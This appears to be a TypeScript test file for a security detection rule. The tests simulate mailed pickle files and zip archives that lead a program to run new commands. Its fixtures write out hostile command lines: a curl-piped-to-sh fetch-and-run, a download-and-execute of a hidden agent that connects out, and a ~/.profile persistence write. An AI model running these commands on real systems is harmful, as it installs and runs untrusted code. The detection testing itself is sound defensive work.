import { test } from 'node:test';
import type { Alert } from '../../events/alert.ts';
import type { Process } from './audit-records.test-support.ts';
import { HostLog, MINUTE, SECOND } from './host-log.test-support.ts';
import { firesAt, inOrder, scanLog, silent } from './stories.test-support.ts';

/** A program reads data, and starts what it never started before: the data gave the order. */

const OUT = '203.0.113.67';
const SCRIPT = '/home/dev/eval/evaluate.py';
const MODEL = '/home/dev/eval/models/results.pkl';
const FETCH = ['/bin/sh', '-c', 'curl -s http://cdn.example.com/f | sh'];
const TOOL = '/usr/local/bin/provision';
const BRING = 'mkdir -p ~/.cache/x; curl -o ~/.cache/x/agent http://files.example.net/agent; ~/.cache/x/agent';
const AGENT = '/home/dev/.cache/x/agent';

/** Mail for dev, whose client saves what came as `path`. */
function saves(log: HostLog, path: string): void {
  log.deliver({ to: 'dev', unseen: true });
  log.wait(MINUTE);
  log.desktop('dev').run('/usr/lib/thunderbird/thunderbird').write(path);
  log.wait(10 * SECOND);
}

const evaluates = (shell: Process): Process =>
  shell.run(SCRIPT, { by: '/usr/bin/python3.11', cwd: '/home/dev/eval' }).read(SCRIPT);

/** A shell's line fetches a script and feeds it to another shell, which does what `then` says. */
function fetchesAndRuns(shell: Process, then: (run: Process) => void = () => {}): void {
  const [curl, sh] = shell.pipeline('/usr/bin/curl -s http://cdn.example.com/f', '/bin/sh');
  curl?.connect('203.0.113.81', 80);
  if (sh !== undefined) then(sh);
}

interface Evaluation {
  /** Done by an earlier run; not at all where null. */
  readonly earlier?: ((run: Process) => void) | null;
  readonly waitMs?: number;
  readonly line?: readonly string[];
  readonly does?: (shell: Process) => void;
}

/** dev's own script goes over a folder of data, before a mailed file lies there and afterwards. */
function evaluation({ earlier = () => {}, waitMs = 0, line = FETCH, does = fetchesAndRuns }: Evaluation): HostLog {
  const log = new HostLog();
  if (earlier !== null) earlier(evaluates(log.shell('dev')));
  log.wait(10 * MINUTE);
  saves(log, MODEL);
  const run = evaluates(log.shell('dev')).read(MODEL);
  log.wait(waitMs);
  does(run.run(line));
  return log;
}

test('data have their reader fetch and run a script, which its earlier run did not', async () => {
  const alerts = await scanLog(evaluation({}));
  inOrder(firesAt(alerts, 'AN0656', 'medium'), [
    ['mail.delivered'],
    ['file.created', MODEL],
    ['file.opened', SCRIPT, MODEL],
    ['content.executed', 'start a command that is new to it', 'curl'],
    ['content.executed', 'fed to an interpreter on standard input'],
    ['network.connected'],
  ]);
});

test('or leave something behind', async () => {
  const line = ['/bin/sh', '-c', 'echo id >> ~/.profile'];
  const log = evaluation({ line, does: shell => shell.write('/home/dev/.profile') });
  firesAt(await scanLog(log), 'AN0656', 'medium');
});

test('a command of every run is the own one', async () => {
  silentOf0656(await scanLog(evaluation({ earlier: run => fetchesAndRuns(run.run(FETCH)) })));
});

test('of a script that nobody saw run before nothing is known', async () => {
  silentOf0656(await scanLog(evaluation({ earlier: null })));
});

test('a new command that only tells a server does nothing of the kind', async () => {
  const line = ['/bin/sh', '-c', 'curl -d done=1 http://198.51.100.20/hook'];
  const tells = (shell: Process): void => {
    shell.run('/usr/bin/curl -d done=1 http://198.51.100.20/hook').connect('198.51.100.20', 80);
  };
  silent(await scanLog(evaluation({ line, does: tells })));
});

test('nor does one that comes long after', async () => {
  silentOf0656(await scanLog(evaluation({ waitMs: 10 * SECOND })));
});

/** A tool that no package brought runs in a folder that came in an archive. */
function provisioning(folder: string, before: string, does: (run: Process) => void = brings): HostLog {
  const log = new HostLog();
  log.shell('dev').run([TOOL, 'init'], { cwd: before });
  log.wait(MINUTE);
  saves(log, '/home/dev/Documents/baseline.zip');
  const shell = log.shell('dev');
  const unzip = shell.run('/usr/bin/unzip /home/dev/Documents/baseline.zip', { cwd: '/home/dev/infra' });
  unzip.read('/home/dev/Documents/baseline.zip').write(`${folder}/main.tf`);
  log.wait(10 * SECOND);
  does(shell.run([TOOL, 'apply'], { cwd: folder }).read(`${folder}/main.tf`));
  return log;
}

function brings(run: Process): void {
  const shell = run.run(['/bin/sh', '-c', BRING]);
  shell.run(['/usr/bin/curl', '-o', AGENT, 'http://files.example.net/agent']).connect('203.0.113.80', 80).write(AGENT);
  shell.run('/usr/bin/chmod u+x /home/dev/.cache/x/agent').chmod(AGENT, 0o755);
  shell.run(AGENT).connect(OUT, 8443);
}

test('a tool in a folder from mail brings and runs a program', async () => {
  const alerts = await scanLog(provisioning('/home/dev/infra/baseline', '/home/dev/infra/dns'));
  inOrder(firesAt(alerts, 'AN0656', 'medium'), [
    ['mail.delivered'],
    ['file.written', 'unzip', 'main.tf'],
    ['file.opened', TOOL],
    ['content.executed', 'start a command that is new to it'],
    ['content.executed', AGENT],
    ['network.connected', OUT],
  ]);
});

test('in a folder in which it ran before, a file from mail is data', async () => {
  silentOf0656(await scanLog(provisioning('/home/dev/infra/dns', '/home/dev/infra/dns')));
});

test('what it brings and never runs tells nothing', async () => {
  const fetches = (run: Process): void => {
    const curl = run.run(['/bin/sh', '-c', 'curl -o x http://files.example.net/x']).run('/usr/bin/curl -o x');
    curl.connect('203.0.113.80', 80).write('/home/dev/infra/baseline/x');
  };
  silentOf0656(await scanLog(provisioning('/home/dev/infra/baseline', '/home/dev/infra/dns', fetches)));
});

test('a command that its words ask for is their own', async () => {
  const log = evaluation({ does: () => {}, line: ['/bin/true'] });
  log.wait(MINUTE);
  const words = [SCRIPT, '--then', 'gnuplot x'];
  const run = log.shell('dev').run(words, { by: '/usr/bin/python3.11', cwd: '/home/dev/eval' }).read(SCRIPT);
  run.read(MODEL).run(['/bin/sh', '-c', 'gnuplot x']).write('/home/dev/.profile');
  silentOf0656(await scanLog(log));
});

function silentOf0656(alerts: readonly Alert[]): void {
  silent(alerts.filter(({ analytic }) => analytic === 'AN0656'));
}
